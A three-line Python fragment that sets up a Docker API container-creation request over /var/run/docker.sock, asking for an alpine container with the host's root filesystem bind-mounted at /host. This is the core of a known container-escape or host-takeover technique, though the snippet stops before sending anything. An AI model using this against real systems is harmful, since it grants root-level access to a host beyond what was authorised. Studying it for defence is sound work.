import http.client
sock = "/var/run/docker.sock"
body = {"Image": "alpine", "Binds": ["/:/host"]}
